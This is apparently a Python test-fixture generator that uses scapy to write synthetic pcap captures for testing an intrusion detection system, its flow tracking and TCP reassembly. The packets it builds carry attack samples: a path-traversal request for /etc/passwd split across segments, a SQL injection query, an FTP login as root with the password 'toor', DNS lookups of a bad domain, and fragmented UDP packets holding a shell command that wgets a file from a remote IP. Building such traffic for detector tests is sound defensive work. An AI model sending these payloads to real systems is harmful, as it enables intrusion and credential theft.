"""A generated corpus for the cluster tests (scapy): captures whose connections run across the
whole capture, interleaved, so that any cut of a capture in time would split them, with what
makes the NIDS, the flow tracker and the reassembler work: HTTP requests and answers that
match examples/nids/demo.rules (some split over segments), FTP logins (flowbits), DNS queries
for a bad domain, large ICMP echoes, fragmented UDP datagrams carrying a shell command, UDP
flows idle past their timeout and then used again, connections left open at the end."""
import random
import sys
from pathlib import Path

from scapy.all import DNS, DNSQR, ICMP, IP, UDP, Ether, Raw, fragment, wrpcap

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "examples" / "nids"))
from make_demo_pcap import MAC, tcp_frames  # noqa: E402,F401 (tcp_frames: the tests too)
START = 1_767_225_600.0  # 2026-01-01


def _tcp_conn(rng, client, server, sport, dport, exchanges, close=True):
    """The frames of one TCP connection, in order (times are given later)."""
    return tcp_frames(client, server, sport, dport, exchanges,
                      seq=(rng.randrange(1 << 30), rng.randrange(1 << 30)), close=close)


def _conversations(rng, n):
    """n conversations, each a list of frames in order."""
    convs = []
    for i in range(n):
        client = f"203.0.{113 + i % 3}.{1 + i % 250}"
        server = f"192.168.{1 + i % 4}.{10 + i % 7}"
        sport = 20000 + rng.randrange(40000)
        kind = i % 7
        if kind == 0:
            convs.append(_tcp_conn(rng, client, server, sport, 80, [
                (0, b"GET /cgi-bin/../../"), (0, b"../etc/pas"),
                (0, b"swd HTTP/1.1\r\nHost: intranet\r\n\r\n"),
                (1, b"HTTP/1.1 200 OK\r\nContent-Length: 40\r\n\r\n"
                    b"uid=0(root) gid=0(root) groups=0(root)\n")], close=rng.random() < 0.7))
        elif kind == 1:
            convs.append(_tcp_conn(rng, client, server, sport, 80, [
                (0, b"GET /item.php?id=1 UNION  ALL   SELECT pw HTTP/1.1\r\n\r\n"),
                (1, b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n")]))
        elif kind == 2:
            convs.append(_tcp_conn(rng, client, server, sport, 21, [
                (1, b"220 FTP ready\r\n"), (0, b"USER root\r\n"),
                (1, b"331 Password required\r\n"), (0, b"PASS toor\r\n"),
                (1, b"230 Login successful\r\n"), (0, b"QUIT\r\n")]))
        elif kind == 3:
            q = "www.evil.example" if rng.random() < 0.5 else f"host{i}.example.org"
            frames = []
            for _ in range(3):  # the same UDP flow three times, idle past its timeout between
                frames.append(Ether(src=MAC[0], dst=MAC[1]) / IP(src=client, dst=server) /
                              UDP(sport=sport, dport=53) / DNS(rd=1, qd=DNSQR(qname=q)))
            convs.append(("idle", frames))
        elif kind == 4:
            convs.append([Ether(src=MAC[0], dst=MAC[1]) / IP(src=client, dst=server) /
                          ICMP(type=8, id=i) / Raw(b"X" * rng.choice([64, 1200]))])
        elif kind == 5:
            datagram = IP(src=client, dst=server, id=1000 + i) / UDP(sport=sport, dport=7000) / \
                Raw(b"A" * 30 + b"/bin/sh -c 'wget http://203.0.113.70/x'" + b"B" * 30)
            convs.append(("burst", [Ether(src=MAC[0], dst=MAC[1]) / f
                                    for f in fragment(datagram, fragsize=40)]))
        else:
            body = bytes(rng.randrange(256) for _ in range(rng.randrange(100, 1400)))
            convs.append(_tcp_conn(rng, client, server, sport, 8080, [
                (0, b"POST /upload HTTP/1.1\r\nContent-Length: %d\r\n\r\n" % len(body)),
                (0, body), (1, b"HTTP/1.1 204 No Content\r\n\r\n")], close=rng.random() < 0.8))
    return convs


def write_capture(path, conversations=60, seed=1, span=400.0):
    """Writes one capture of `conversations` interleaved over `span` seconds; returns the
    number of packets."""
    rng = random.Random(seed)
    timed = []
    for conv in _conversations(rng, conversations):
        if isinstance(conv, tuple):
            kind, frames = conv
            t = rng.uniform(0, span * 0.9)
            if kind == "idle":  # a UDP flow used again after its 30 s timeout
                t = rng.uniform(0, span / 3)
            for f in frames:
                timed.append((t, f))
                t += rng.uniform(35, 60) if kind == "idle" else 0.001  # a burst of fragments
            continue
        # The connection's packets spread over most of the capture: it spans every cut in time.
        t0 = rng.uniform(0, span * 0.2)
        t1 = rng.uniform(span * 0.6, span * 0.95)
        step = (t1 - t0) / max(1, len(conv))
        for k, f in enumerate(conv):
            timed.append((t0 + k * step + rng.uniform(0, step / 4), f))
    timed.sort(key=lambda x: x[0])
    frames = []
    for t, f in timed:
        f.time = START + round(t, 6)
        frames.append(f)
    wrpcap(str(path), frames)
    return len(frames)


def write_corpus(directory, files=6, conversations=20, seed=10, span=200.0):
    """`files` small captures in `directory` (corpus-NN.pcap); returns their paths."""
    paths = []
    for i in range(files):
        p = directory / f"corpus-{i:02d}.pcap"
        write_capture(p, conversations, seed + i, span)
        paths.append(p)
    return paths
